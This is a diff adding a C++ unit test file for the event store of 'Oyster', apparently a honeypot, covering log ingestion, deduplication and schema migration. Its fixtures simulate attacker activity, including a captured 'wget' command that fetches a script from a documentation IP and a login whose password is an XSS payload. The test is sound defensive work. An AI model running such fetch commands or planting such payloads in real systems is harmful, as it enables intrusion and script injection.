@@ -1,0 +1,148 @@
+#include "oyster/store/event_store.h"
+
+#include <gtest/gtest.h>
+
+#include <fstream>
+
+#include <fmt/format.h>
+
+#include "oyster/common/error.h"
+#include "oyster/store/store_schema.h"
+#include "temp_dir.h"
+
+namespace oyster::store {
+namespace {
+
+const char* kOpened =
+    R"({"ts":"2026-11-27T10:00:00.000Z","type":"intrusion_opened","intrusion_id":"i1","source_ip":"198.51.100.7",)"
+    R"("guest_id":"g1","guest_ip":"10.213.0.2","dir":"/var/lib/oyster/guests/g1"})";
+const char* kLogin =
+    R"({"ts":"2026-11-27T10:00:01.000Z","type":"login","intrusion_id":"i1","source_ip":"198.51.100.7",)"
+    R"("guest_id":"g1","service":"sshd","user":"root","password":"<script>alert(1)</script>","success":true,)"
+    R"("reason":"listed account"})";
+const char* kExec =
+    R"({"ts":"2026-11-27T10:00:02.000Z","type":"capture","intrusion_id":"i1","source_ip":"198.51.100.7",)"
+    R"("guest_id":"g1","event":{"type":"exec","pid":812,"path":"/usr/bin/wget","cwd":"/tmp",)"
+    R"("argv":["wget","-q","http://203.0.113.9/x.sh"]}})";
+const char* kClosed =
+    R"({"ts":"2026-11-27T10:30:00.000Z","type":"intrusion_closed","intrusion_id":"i1","source_ip":"198.51.100.7",)"
+    R"("guest_id":"g1","reason":"idle","connections":2,"pcap_files":1,"disk_bytes":4096,"dir":"/d"})";
+const char* kOther = R"({"ts":"2026-11-27T10:31:00.000Z","type":"sensor_stopped","connections_accepted":3})";
+
+class EventStoreTest : public testing::TempDirTest {
+protected:
+    std::filesystem::path jsonl() { return dir / "events.jsonl"; }
+    void append(const std::string& text) { std::ofstream(jsonl(), std::ios::app | std::ios::binary) << text; }
+};
+
+TEST_F(EventStoreTest, EventsWrittenAreReadBackWithWhatTheyDescribe) {
+    append(std::string(kOpened) + "\n" + kLogin + "\n" + kExec + "\n" + kClosed + "\n" + kOther + "\n");
+    EventStore store(dir / "store.sqlite");
+    auto r = store.ingest_jsonl(jsonl());
+    EXPECT_EQ(r.events, 5U);
+    EXPECT_EQ(r.skipped, 0U);
+    EXPECT_EQ(store.count("events"), 5U);
+    EXPECT_EQ(store.count("intrusions"), 1U);
+    EXPECT_EQ(store.count("credentials"), 1U);
+    EXPECT_EQ(store.count("commands"), 1U);
+
+    auto events = store.intrusion_events("i1");
+    ASSERT_EQ(events.size(), 4U);
+    EXPECT_EQ(events[0]["type"], "intrusion_opened");
+    EXPECT_EQ(events[1]["password"], "<script>alert(1)</script>");  // stored as it came
+    EXPECT_EQ(events[3]["reason"], "idle");
+
+    Statement q(
+        store.db(),
+        "SELECT source_ip, opened, closed, close_reason, connections, disk_bytes FROM intrusions WHERE id='i1'");
+    ASSERT_TRUE(q.step());
+    EXPECT_EQ(q.text(0), "198.51.100.7");
+    EXPECT_EQ(q.text(1), "2026-11-27T10:00:00.000Z");
+    EXPECT_EQ(q.text(2), "2026-11-27T10:30:00.000Z");
+    EXPECT_EQ(q.text(3), "idle");
+    EXPECT_EQ(q.int64(4), 2);
+    EXPECT_EQ(q.int64(5), 4096);
+    Statement c(store.db(), "SELECT username, password, success, service FROM credentials");
+    ASSERT_TRUE(c.step());
+    EXPECT_EQ(c.text(0), "root");
+    EXPECT_EQ(c.text(1), "<script>alert(1)</script>");
+    EXPECT_EQ(c.int64(2), 1);
+    EXPECT_EQ(c.text(3), "sshd");
+    Statement m(store.db(), "SELECT command_line, argv, path, cwd, pid FROM commands");
+    ASSERT_TRUE(m.step());
+    EXPECT_EQ(m.text(0), "wget -q http://203.0.113.9/x.sh");
+    EXPECT_EQ(m.text(1), R"(["wget","-q","http://203.0.113.9/x.sh"])");
+    EXPECT_EQ(m.text(2), "/usr/bin/wget");
+    EXPECT_EQ(m.text(3), "/tmp");
+    EXPECT_EQ(m.int64(4), 812);
+}
+
+TEST_F(EventStoreTest, EachLineIsAddedOnceAcrossCallsAndReopens) {
+    append(std::string(kOpened) + "\n" + kLogin + "\n");
+    {
+        EventStore store(dir / "store.sqlite");
+        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 2U);
+        EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 0U);
+    }
+    // A line still being written waits for its newline.
+    append(std::string(kExec).substr(0, 40));
+    EventStore store(dir / "store.sqlite");
+    auto r = store.ingest_jsonl(jsonl());
+    EXPECT_EQ(r.events, 0U);
+    EXPECT_EQ(r.skipped, 0U);
+    append(std::string(kExec).substr(40) + "\n");
+    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
+    EXPECT_EQ(store.count("events"), 3U);
+    EXPECT_EQ(store.count("commands"), 1U);
+}
+
+TEST_F(EventStoreTest, AReplacedFileIsReadFromItsStart) {
+    append(std::string(kOpened) + "\n" + kLogin + "\n");
+    EventStore store(dir / "store.sqlite");
+    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 2U);
+    std::filesystem::remove(jsonl());
+    append(std::string(kOther) + "\n");
+    EXPECT_EQ(store.ingest_jsonl(jsonl()).events, 1U);
+    EXPECT_EQ(store.count("events"), 3U);
+}
+
+TEST_F(EventStoreTest, WhatIsNotAnEventIsSkippedAndCounted) {
+    std::string too_long = R"({"ts":"t","type":"x","pad":")" + std::string(EventStore::kMaxLineBytes + 10, 'a') + "\"}";
+    append(std::string("not json\n") + "[1,2]\n" + R"({"type":"no ts"})" + "\n" + too_long + "\n" + kOther + "\n" +
+           "\n");
+    EventStore store(dir / "store.sqlite");
+    auto r = store.ingest_jsonl(jsonl());
+    EXPECT_EQ(r.events, 1U);
+    EXPECT_EQ(r.skipped, 5U);
+    EXPECT_EQ(store.count("events"), 1U);
+    EXPECT_EQ(store.ingest_jsonl(jsonl()).events + store.ingest_jsonl(jsonl()).skipped, 0U);
+}
+
+TEST_F(EventStoreTest, AMissingLogAddsNothing) {
+    EventStore store(dir / "store.sqlite");
+    auto r = store.ingest_jsonl(dir / "none.jsonl");
+    EXPECT_EQ(r.events + r.skipped + r.bytes, 0U);
+}
+
+TEST_F(EventStoreTest, MigratesAnEmptyDatabaseAndRefusesANewerOne) {
+    {
+        SqliteDb db(dir / "store.sqlite");
+        EXPECT_EQ(db.query_int("PRAGMA user_version"), 0);
+        migrate_store(db);
+        EXPECT_EQ(db.query_int("PRAGMA user_version"), store_schema_version());
+        Statement mode(db, "PRAGMA journal_mode");
+        ASSERT_TRUE(mode.step());
+        EXPECT_EQ(mode.text(0), "wal");
+        migrate_store(db);  // idempotent
+        db.exec(fmt::format("PRAGMA user_version = {}", store_schema_version() + 1));
+    }
+    try {
+        EventStore store(dir / "store.sqlite");
+        FAIL() << "a newer schema was opened";
+    } catch (const Error& e) {
+        EXPECT_NE(std::string(e.what()).find("newer than this Oyster"), std::string::npos) << e.what();
+    }
+}
+
+}  // namespace
+}  // namespace oyster::store
